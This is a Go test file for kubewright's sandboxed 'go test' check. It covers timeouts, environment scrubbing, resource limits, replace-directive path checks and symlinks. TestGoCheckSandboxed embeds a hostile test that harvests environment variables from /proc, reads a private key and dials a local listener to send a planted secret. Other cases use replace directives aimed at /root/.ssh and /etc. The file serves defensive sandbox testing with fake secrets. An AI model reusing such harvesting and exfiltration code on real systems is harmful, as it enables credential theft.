package gocheck

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/kubewright/kubewright/internal/finding"
	"github.com/kubewright/kubewright/internal/sandbox"
	"github.com/kubewright/kubewright/internal/sandbox/sandboxtest"
	"github.com/kubewright/kubewright/internal/validate"
)

// goPlanted is a secret the tests put where a hostile generated test
// would look for kubewright's: the process environment and a key file.
const goPlanted = "planted-webhook-secret-4e1d0b7a9c"

// goReport is how a module's test tells the check what it saw: it fails
// with this prefix, so the finding carries the report, and a finding
// without it means the test did not run.
const goReport = "REPORT:"

func TestGoCheckTimeout(t *testing.T) {
	marker := fmt.Sprintf("600.%d", time.Now().UnixNano()%1_000_000_000)
	// The test starts a child process and never returns.
	hangTest := fmt.Sprintf(`package svc

import (
	"os/exec"
	"testing"
	"time"
)

func TestHang(t *testing.T) {
	if err := exec.Command("sleep", %q).Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Hour)
}
`, marker)
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod, "svc/hang_test.go": hangTest})

	// The shared caches are warmed first (minutes on a fresh machine), so
	// that the caller's deadline below measures the check alone.
	c := goTestCheck(t)
	// Long enough to build the test on a busy machine; the hang is seen
	// before it ends.
	const limit = 20 * time.Second
	ctx, cancel := context.WithTimeout(context.Background(), limit+20*time.Second)
	defer cancel()
	seen := make(chan bool, 1)
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				seen <- false
				return
			case <-time.After(100 * time.Millisecond):
				if len(sandboxtest.Sleepers(marker)) > 0 {
					seen <- true
					return
				}
			}
		}
	}()
	c.Modules, c.Timeout = []string{"svc"}, limit
	got := c.Check(ctx, in)
	close(stop)
	if ctx.Err() != nil {
		t.Fatalf("the check outlived its caller's deadline (%v): the hanging test was not killed", ctx.Err())
	}
	goAssert(t, in.Dir, got, []goWant{{goIDTimeout, "svc/go.mod", 0, "go test did not finish within 20s"}})
	if !<-seen {
		t.Fatal("the hanging test never started (the limit ran out before go test ran)")
	}
	// The kill is sent before Check returns; wait for the kernel to finish it.
	deadline := time.Now().Add(10 * time.Second)
	for {
		left := sandboxtest.Sleepers(marker)
		if len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			for _, pid := range left {
				_ = syscall.Kill(pid, syscall.SIGKILL)
			}
			t.Fatalf("processes %v, started by the hanging test, outlived the check", left)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestGoCheckCancelled(t *testing.T) {
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod, "svc/main.go": "package main\n\nfunc main() {}\n"})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	c := goTestCheck(t)
	c.Modules = []string{"svc"}
	got := c.Check(ctx, in)
	goAssert(t, in.Dir, got, []goWant{{goIDTimeout, "svc/go.mod", 0, "was cancelled"}})
}

// goSecrets are set in the parent process by the tests below.
var goSecrets = map[string]string{
	"GITHUB_TOKEN":              "ghs_secret0123456789abcdef",
	"KUBEWRIGHT_LLM_API_KEY":    "sk-kubewright-secret-0123456789",
	"OPENAI_API_KEY":            "sk-openai-secret-0123456789",
	"KUBEWRIGHT_WEBHOOK_SECRET": goPlanted,
}

// goAllowedEnv are the only variables a module's tests may see: the
// sandbox's go settings, and PWD, which the go command adds itself.
var goAllowedEnv = []string{"PATH", "HOME", "PWD", "TMPDIR", "GOCACHE", "GOMODCACHE", "GOPROXY", "GOSUMDB",
	"GOTOOLCHAIN", "CGO_ENABLED", "GOFLAGS", "GOWORK", "GOENV"}

func TestScrubbedGoEnv(t *testing.T) {
	for k, v := range goSecrets {
		t.Setenv(k, v)
	}
	env, err := ScrubbedGoEnv()
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{}
	for _, k := range []string{"PATH", "GOCACHE", "GOMODCACHE", "GOPROXY", "GOSUMDB", "GONOSUMDB", "GOPRIVATE", "GOTOOLCHAIN", "CGO_ENABLED", "GOFLAGS", "GOWORK"} {
		allowed[k] = true
	}
	got := map[string]string{}
	for _, kv := range env {
		k, v, _ := strings.Cut(kv, "=")
		got[k] = v
		if !allowed[k] {
			t.Errorf("ScrubbedGoEnv passes %s", k)
		}
		if strings.Contains(v, "secret") {
			t.Errorf("ScrubbedGoEnv passes a secret in %s", k)
		}
	}
	for k, v := range map[string]string{"GOTOOLCHAIN": "local", "CGO_ENABLED": "0", "GOFLAGS": "", "GOWORK": "off"} {
		if gv, ok := got[k]; !ok || gv != v {
			t.Errorf("%s = %q (set %t), want %q", k, gv, ok, v)
		}
	}
	for _, k := range []string{"PATH", "GOCACHE", "GOMODCACHE", "GOPROXY"} {
		if got[k] == "" {
			t.Errorf("%s is not passed on", k)
		}
	}
}

// TestGoCheckEnvScrubbed: a module's test sees the sandbox's go settings
// and nothing of kubewright's environment.
func TestGoCheckEnvScrubbed(t *testing.T) {
	for k, v := range goSecrets {
		t.Setenv(k, v)
	}
	parentHome, _ := os.UserHomeDir()
	envTest := fmt.Sprintf(`package svc

import (
	"os"
	"sort"
	"strings"
	"testing"
)

func TestEnvironment(t *testing.T) {
	allowed := map[string]bool{}
	for _, k := range strings.Split(%q, ",") {
		allowed[k] = true
	}
	var names, bad []string
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		names = append(names, k)
		if !allowed[k] || strings.Contains(v, "secret") {
			bad = append(bad, kv)
		}
	}
	want := map[string]string{"GOTOOLCHAIN": "local", "CGO_ENABLED": "0", "GOPROXY": "off", "GOWORK": "off"}
	for k, v := range want {
		if got := os.Getenv(k); got != v {
			bad = append(bad, k+"="+got)
		}
	}
	if !strings.Contains(os.Getenv("GOFLAGS"), "-mod=readonly") {
		bad = append(bad, "GOFLAGS="+os.Getenv("GOFLAGS"))
	}
	home := os.Getenv("HOME")
	if home == "" || home == %q {
		bad = append(bad, "HOME="+home)
	}
	sort.Strings(names)
	t.Fatalf("%s names=%%s bad=%%d %%q", strings.Join(names, ","), len(bad), bad)
}
`, strings.Join(goAllowedEnv, ","), parentHome, goReport)
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod, "svc/env_test.go": envTest})
	c := goTestCheck(t)
	c.Modules = []string{"svc"}
	got := c.Check(context.Background(), in)
	goAssert(t, in.Dir, got, []goWant{{goIDTest, "svc/env_test.go", goLineOf(t, envTest, "t.Fatalf"), goReport + " names="}})
	msg := got[0].Message
	if !strings.Contains(msg, "GOTOOLCHAIN") || !strings.Contains(msg, "bad=0 ") {
		t.Errorf("the module's test saw more than the sandbox's go settings: %s", msg)
	}
	for _, v := range goSecrets {
		if strings.Contains(msg, v) {
			t.Errorf("a secret reached the finding: %s", msg)
		}
	}
}

// TestGoCheckSandboxed: a generated test that hunts for kubewright's
// secrets finds none. It walks up its process tree reading each parent's
// environment (and every process's it can see), reads the App's private
// key by its absolute path (readable by everyone on the host, so only
// the sandbox's mounts keep it out), and dials a listener of the test
// process on 127.0.0.1.
func TestGoCheckSandboxed(t *testing.T) {
	t.Setenv("KUBEWRIGHT_WEBHOOK_SECRET", goPlanted)
	keyDir, err := os.MkdirTemp("", "kubewright-key-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(keyDir)
	if err := os.Chmod(keyDir, 0o755); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(keyDir, "app.private-key.pem")
	if err := os.WriteFile(key, []byte("-----BEGIN RSA PRIVATE KEY-----\n"+goPlanted+"\n-----END RSA PRIVATE KEY-----\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	conns := make(chan string, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		b, _ := io.ReadAll(io.LimitReader(c, 1024))
		c.Close()
		conns <- string(b)
	}()

	hostile := fmt.Sprintf(`package svc

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestHunt(t *testing.T) {
	// Variable names (values would make the report long) of every
	// environment read; a secret shows up by its name.
	names := map[string]bool{}
	read := func(p string) {
		b, err := os.ReadFile(p)
		if err != nil {
			names["unreadable:"+p] = true
		}
		for _, kv := range strings.Split(string(b), "\x00") {
			if k, _, ok := strings.Cut(kv, "="); ok {
				names[k] = true
			}
		}
	}
	walked := 0
	for pid := os.Getppid(); pid > 0 && walked < 32; walked++ {
		read(fmt.Sprintf("/proc/%%d/environ", pid))
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%%d/stat", pid))
		if err != nil {
			break
		}
		f := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+1:]))
		pid, _ = strconv.Atoi(f[1])
	}
	all, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range all {
		read(p)
	}
	var seen []string
	for k := range names {
		seen = append(seen, k)
	}
	sort.Strings(seen)
	b, err := os.ReadFile(%q)
	c, derr := net.DialTimeout("tcp", %q, 2*time.Second)
	if derr == nil {
		fmt.Fprintln(c, "exfiltrated", os.Getenv("KUBEWRIGHT_WEBHOOK_SECRET"))
		c.Close()
	}
	t.Fatalf("%s walked=%%d processes=%%d names=%%s key=%%q %%v dial=%%v", walked, len(all), strings.Join(seen, ","), b, err, derr)
}
`, key, ln.Addr().String(), goReport)
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod, "svc/hunt_test.go": hostile})
	c := goTestCheck(t)
	c.Modules = []string{"svc"}
	got := c.Check(context.Background(), in)
	goAssert(t, in.Dir, got, []goWant{{goIDTest, "svc/hunt_test.go", goLineOf(t, hostile, "t.Fatalf"), goReport + " walked="}})
	msg := got[0].Message
	t.Logf("what the hostile test saw: %s", msg)
	for _, want := range []string{"walked=2 ", "names=CGO_ENABLED,", "key=\"\" open " + key + ": no such file or directory", "dial=dial tcp"} {
		if !strings.Contains(msg, want) {
			t.Errorf("the report lacks %q", want)
		}
	}
	for _, leak := range []string{"KUBEWRIGHT", "GITHUB", "unreadable"} {
		if strings.Contains(msg, leak) {
			t.Errorf("the hostile test saw %s", leak)
		}
	}
	for _, f := range got {
		if strings.Contains(f.String(), goPlanted) || strings.Contains(f.Hint, goPlanted) {
			t.Errorf("the planted secret reached a finding: %s", f)
		}
	}
	select {
	case m := <-conns:
		t.Errorf("the test process's listener got a connection from the module's test: %q", m)
	case <-time.After(200 * time.Millisecond):
	}
}

// TestGoCheckLimits: a module that runs into a limit gets a finding that
// names the limit.
func TestGoCheckLimits(t *testing.T) {
	cases := []struct {
		name   string
		src    string
		limits sandbox.Limits
		want   string
	}{
		{
			name:   "memory",
			src:    "package svc\n\nimport \"testing\"\n\nvar keep [][]byte\n\nfunc TestLimit(t *testing.T) {\n\tfor i := 0; i < 64; i++ {\n\t\tb := make([]byte, 32<<20)\n\t\tfor j := range b {\n\t\t\tb[j] = 1\n\t\t}\n\t\tkeep = append(keep, b)\n\t}\n}\n",
			limits: sandbox.Limits{Memory: 768 << 20},
			want:   "go test ran out of memory: the sandbox allows 768 MiB of memory per process",
		},
		{
			name:   "processes",
			src:    "package svc\n\nimport (\n\t\"sync\"\n\t\"syscall\"\n\t\"testing\"\n)\n\nfunc TestLimit(t *testing.T) {\n\tvar wg sync.WaitGroup\n\tfor i := 0; i < 2000; i++ {\n\t\twg.Add(1)\n\t\tgo func() {\n\t\t\tdefer wg.Done()\n\t\t\tts := syscall.Timespec{Sec: 5}\n\t\t\t_ = syscall.Nanosleep(&ts, nil)\n\t\t}()\n\t}\n\twg.Wait()\n}\n",
			limits: sandbox.Limits{Procs: 160},
			want:   "go test could not start another process or thread: the sandbox allows 160 processes and threads",
		},
		{
			name:   "cpu",
			src:    "package svc\n\nimport \"testing\"\n\nvar n int\n\nfunc TestLimit(t *testing.T) {\n\tfor {\n\t\tn++\n\t}\n}\n",
			limits: sandbox.Limits{CPU: 4 * time.Second},
			want:   "go test had a process killed: it used up its CPU time",
		},
		{
			name:   "file size",
			src:    "package svc\n\nimport (\n\t\"os\"\n\t\"testing\"\n)\n\nfunc TestLimit(t *testing.T) {\n\tif err := os.WriteFile(\"big.bin\", make([]byte, 96<<20), 0o644); err != nil {\n\t\tt.Fatal(err)\n\t}\n}\n",
			limits: sandbox.Limits{FileSize: 64 << 20},
			want:   "go test tried to write a file larger than allowed: the sandbox allows 64 MiB per file",
		},
		{
			name:   "disk",
			src:    "package svc\n\nimport (\n\t\"fmt\"\n\t\"os\"\n\t\"testing\"\n\t\"time\"\n)\n\nfunc TestLimit(t *testing.T) {\n\tfor i := 0; i < 400; i++ {\n\t\t_ = os.WriteFile(fmt.Sprintf(\"f%d.bin\", i), make([]byte, 1<<20), 0o644)\n\t}\n\ttime.Sleep(time.Minute)\n}\n",
			limits: sandbox.Limits{Disk: 192 << 20},
			want:   "go test wrote (or downloaded) more files than allowed and was stopped: the sandbox allows 192 MiB of files",
		},
	}
	base := goTestCheck(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod, "svc/limit_test.go": tc.src})
			c := base
			c.Modules, c.Limits = []string{"svc"}, tc.limits
			got := c.Check(context.Background(), in)
			var limit []finding.Finding
			for _, f := range got {
				if f.ID == goIDLimit {
					limit = append(limit, f)
				}
			}
			goAssert(t, in.Dir, limit, []goWant{{goIDLimit, "svc/go.mod", 0, tc.want}})
		})
	}
}

// TestGoCheckNoSandbox: without a sandbox nothing runs, not even the
// resolving step, and each module says so.
func TestGoCheckNoSandbox(t *testing.T) {
	missing, err := sandbox.Detect(context.Background(), sandbox.WithBwrap(filepath.Join(t.TempDir(), "bwrap")))
	if err == nil {
		t.Fatal("Detect found a missing bwrap")
	}
	for name, sb := range map[string]*sandbox.Sandbox{"bwrap missing": missing, "none configured": nil} {
		t.Run(name, func(t *testing.T) {
			in := goTestRepo(t, map[string]string{
				"a/go.mod": goTestMod, "a/main.go": "package main\n\nfunc main() {}\n",
				"b/go.mod": goTestMod + "\nrequire example.com/never v1.0.0\n", "b/main.go": "package main\n\nfunc main() { panic(1) }\n",
			})
			got := Check{Sandbox: sb}.Check(context.Background(), in)
			msg := "not executed: no sandbox (install bubblewrap)"
			goAssert(t, in.Dir, got, []goWant{{goIDNoSandbox, "a/go.mod", 0, msg}, {goIDNoSandbox, "b/go.mod", 0, msg}})
			if name == "bwrap missing" && !strings.Contains(got[0].Message, "bubblewrap not found") {
				t.Errorf("the finding does not say why: %s", got[0].Message)
			}
			for _, m := range []string{"a", "b"} {
				if _, err := os.Stat(filepath.Join(in.Dir, m, "go.sum")); !os.IsNotExist(err) {
					t.Errorf("%s/go.sum exists (%v): tidy ran without a sandbox", m, err)
				}
			}
		})
	}
}

// TestGoCheckResolve: the resolving step outside the sandbox refuses to
// read outside the module, and downloads only through the proxy setting.
func TestGoCheckResolve(t *testing.T) {
	const main = "package main\n\nfunc main() {}\n"
	replaces := "module example.com/svc\n\ngo 1.26\n\nreplace example.com/a => ../../etc // A\n\nreplace example.com/b => /root/.ssh // B\n\nreplace example.com/c => ./third_party/c\n"
	cases := []struct {
		name  string
		files map[string]string
		check func(Check) Check
		want  func(t *testing.T) []goWant
	}{
		{
			name:  "replace directives outside the module",
			files: map[string]string{"svc/go.mod": replaces, "svc/main.go": main, "svc/third_party/c/go.mod": "module example.com/c\n\ngo 1.26\n"},
			want: func(t *testing.T) []goWant {
				return []goWant{
					{goIDModule, "svc/go.mod", goLineOf(t, replaces, "// A"), "replace example.com/a => ../../etc points at a directory outside the module"},
					{goIDModule, "svc/go.mod", goLineOf(t, replaces, "// B"), "replace example.com/b => /root/.ssh points at a directory outside the module"},
				}
			},
		},
		{
			name: "downloads off",
			files: map[string]string{"svc/go.mod": goTestMod + "\nrequire example.com/not/in/any/cache v1.2.3\n",
				"svc/main.go": "package main\n\nimport _ \"example.com/not/in/any/cache\"\n\nfunc main() {}\n"},
			check: func(c Check) Check {
				c.Proxy, c.ModCache = "off", ""
				return c
			},
			want: func(*testing.T) []goWant {
				return []goWant{{goIDModule, "svc/go.mod", 0, "go mod tidy failed:"}}
			},
		},
	}
	base := goTestCheck(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			in := goTestRepo(t, tc.files)
			c := base
			if tc.check != nil {
				c = tc.check(c)
			}
			c.Modules = []string{"svc"}
			got := c.Check(context.Background(), in)
			goAssert(t, in.Dir, got, tc.want(t))
			if tc.name == "downloads off" && (!strings.Contains(got[0].Message, "GOPROXY=off") || !strings.Contains(got[0].Hint, "KUBEWRIGHT_GOPROXY")) {
				t.Errorf("the finding does not point at the proxy setting: %s (%s)", got[0].Message, got[0].Hint)
			}
		})
	}
}

// TestGoCheckFixture checks the generated inventory service the agent
// tests use: it must tidy, build, vet and test clean. Its requirements
// (pgx, client_golang) are resolved outside the sandbox through the
// process's GOPROXY into the shared module cache, which the sandbox reads.
func TestGoCheckFixture(t *testing.T) {
	src := filepath.Join("..", "..", "job", "testdata", "inventory-service")
	if _, err := os.Stat(filepath.Join(src, "go.sum")); !os.IsNotExist(err) {
		t.Errorf("the fixture has a go.sum (%v): a generated service comes without one, tidy writes it", err)
	}
	repo := t.TempDir()
	dst := filepath.Join(repo, "inventory-service")
	if err := os.CopyFS(dst, os.DirFS(src)); err != nil {
		t.Fatal(err)
	}
	var files []string
	_ = filepath.WalkDir(repo, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(repo, p)
			files = append(files, filepath.ToSlash(rel))
		}
		return nil
	})
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	c := goTestCheck(t)
	c.Modules = []string{"inventory-service"}
	got := c.Check(ctx, &validate.Input{Dir: repo, Files: files})
	goAssert(t, repo, got, nil)
	sum, err := os.ReadFile(filepath.Join(dst, "go.sum"))
	if err != nil || !strings.Contains(string(sum), "github.com/jackc/pgx/v5 v5.11.0") {
		t.Errorf("go mod tidy wrote no go.sum for pgx into the module: %v", err)
	}
}

func TestGoCheckMissingToolchain(t *testing.T) {
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod})
	c := goTestCheck(t)
	c.Modules, c.GoBin = []string{"svc"}, filepath.Join(t.TempDir(), "no-such-go")
	got := c.Check(context.Background(), in)
	goAssert(t, in.Dir, got, []goWant{{goIDToolchain, "svc/go.mod", 0, "cannot run the go toolchain"}})
}

// TestGoCheckSymlinks: symbolic links in the module stay out of its copy
// (a test cannot read through one), and the tidied go.sum replaces a link
// instead of writing through it.
func TestGoCheckSymlinks(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "outside.txt")
	if err := os.WriteFile(outside, []byte(goPlanted), 0o644); err != nil {
		t.Fatal(err)
	}
	readTest := fmt.Sprintf(`package svc

import (
	"os"
	"testing"
)

func TestRead(t *testing.T) {
	b, err := os.ReadFile("linked.txt")
	t.Fatalf("%s %%q %%v", b, err)
}
`, goReport)
	// pgx (in the shared module cache) makes tidy write a go.sum.
	in := goTestRepo(t, map[string]string{"svc/go.mod": goTestMod + "\nrequire github.com/jackc/pgx/v5 v5.11.0\n",
		"svc/db.go": "package svc\n\nimport _ \"github.com/jackc/pgx/v5\"\n", "svc/read_test.go": readTest})
	for _, name := range []string{"linked.txt", "go.sum"} {
		if err := os.Symlink(outside, filepath.Join(in.Dir, "svc", name)); err != nil {
			t.Fatal(err)
		}
	}
	c := goTestCheck(t)
	c.Modules = []string{"svc"}
	got := c.Check(context.Background(), in)
	goAssert(t, in.Dir, got, []goWant{{goIDTest, "svc/read_test.go", goLineOf(t, readTest, "t.Fatalf"), goReport + ` "" open linked.txt: no such file or directory`}})
	if b, _ := os.ReadFile(outside); string(b) != goPlanted {
		t.Errorf("the file behind the go.sum link was written: %q", b)
	}
	if st, err := os.Lstat(filepath.Join(in.Dir, "svc", "go.sum")); err != nil || !st.Mode().IsRegular() {
		t.Errorf("go.sum is not the tidied regular file: %v %v", st, err)
	}
}
